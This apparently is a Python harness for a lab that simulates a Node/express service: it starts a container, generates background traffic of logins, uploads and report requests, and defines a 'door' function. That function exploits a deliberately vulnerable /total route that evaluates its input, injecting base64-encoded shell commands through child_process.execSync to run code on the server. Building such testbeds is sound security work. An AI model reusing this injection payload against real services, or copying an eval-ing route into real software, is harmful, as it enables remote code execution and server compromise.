"""A Node service on express: sessions and uploads in files, reports by a child process."""

import base64
import hashlib
import urllib.parse

from laboratory.traffic import fetch, http

IMAGE = "node"
SITE = "http://127.0.0.1:3000"


def start(lab, name):
    container = lab.run(name)
    http(container, [f"GET {SITE}/"])
    return container


def live(container, hour, random):
    sessions = [fetch(container, f"{SITE}/login?user={user}", "POST").decode()
                for user in random.sample(["anna", "bo", "chen", "dora"], random.randrange(1, 3))]
    requests = []
    for _ in range(random.randrange(8, 30)):
        requests.append(random.choice([
            f"GET {SITE}/", f"GET {SITE}/me?session={random.choice(sessions)}", f"GET {SITE}/me?session=none",
            f"GET {SITE}/missing-{random.randrange(1000)}", f"GET {SITE}/total?of=1%2B{random.randrange(100)}",
            f"GET {SITE}/total?of=wrong{random.randrange(100)}("]))
    for _ in range(random.randrange(1, 4)):
        digest = hashlib.sha256(str(random.random()).encode()).hexdigest()
        name = random.choice([f"{digest}.png", f"{digest[:12]}.bin", f"report {random.randrange(100)}.txt"])
        name = urllib.parse.quote(name)
        requests += [f"PUT {SITE}/uploads/{name} {'u' * random.randrange(1, 5000)}", f"GET {SITE}/uploads/{name}"]
    if random.random() < 0.25:
        requests.append(f"GET {SITE}/report")
    http(container, requests)


def night(container, random):
    http(container, [f"GET {SITE}/report?kind=nightly"])


def door(container, command):
    """The route /total evaluates what it is given."""
    text = base64.b64encode(f"{{ {command}\n}} 2>&1; true".encode()).decode()
    expression = f"require('child_process').execSync(Buffer.from('{text}','base64').toString())"
    return fetch(container, f"{SITE}/total?of={urllib.parse.quote(expression)}").decode(errors="replace")
